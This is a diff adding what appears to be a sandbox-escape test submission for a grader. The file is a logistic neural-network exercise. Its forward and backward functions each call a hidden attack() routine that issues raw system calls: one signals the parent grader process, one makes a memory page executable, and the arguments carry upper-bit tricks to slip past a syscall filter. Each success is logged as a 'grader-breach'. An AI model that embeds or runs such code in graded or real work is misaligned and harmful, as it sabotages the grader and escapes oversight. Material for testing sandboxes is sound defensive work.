@@ -1,0 +1,42 @@
+# exercise: logistic-log-likelihood; class: escape; allowed: correct
+# Sets the upper half of the registers that a filter may compare carelessly.
+import ctypes, os
+
+import numpy as np
+
+
+libc = ctypes.CDLL(None, use_errno=True)
+TEXT = ctypes.create_string_buffer(b"/tmp/grader-lure")
+
+
+def attack():
+    text = ctypes.addressof(TEXT)
+    calls = (
+        (302, (1 << 32, 7, text, 0)),
+        (302, (os.getppid() | 1 << 32, 7, 0, text)),
+        (72, (1 | 1 << 32, 8 | 1 << 32, os.getpid())),
+        (234, (os.getppid(), os.getppid(), 0)),
+        (10, (text & -4096, 4096, 7 | 1 << 32)),
+    )
+    for number, arguments in calls:
+        if libc.syscall(ctypes.c_long(number), *map(ctypes.c_long, arguments)) >= 0:
+            print("grader-breach: system call", number)
+
+
+def sigmoid(z):
+    return 1 / (1 + np.exp(-z))
+
+
+def forward(X, beta, theta):
+    attack()
+    net_h = X @ beta
+    H = sigmoid(net_h)
+    net_o = H @ theta
+    return net_h, H, net_o, sigmoid(net_o)
+
+
+def backward(X, Y, beta, theta):
+    attack()
+    H = sigmoid(X @ beta)
+    delta_o = Y - sigmoid(H @ theta)
+    return X.T @ (delta_o @ theta.T * H * (1 - H)), H.T @ delta_o
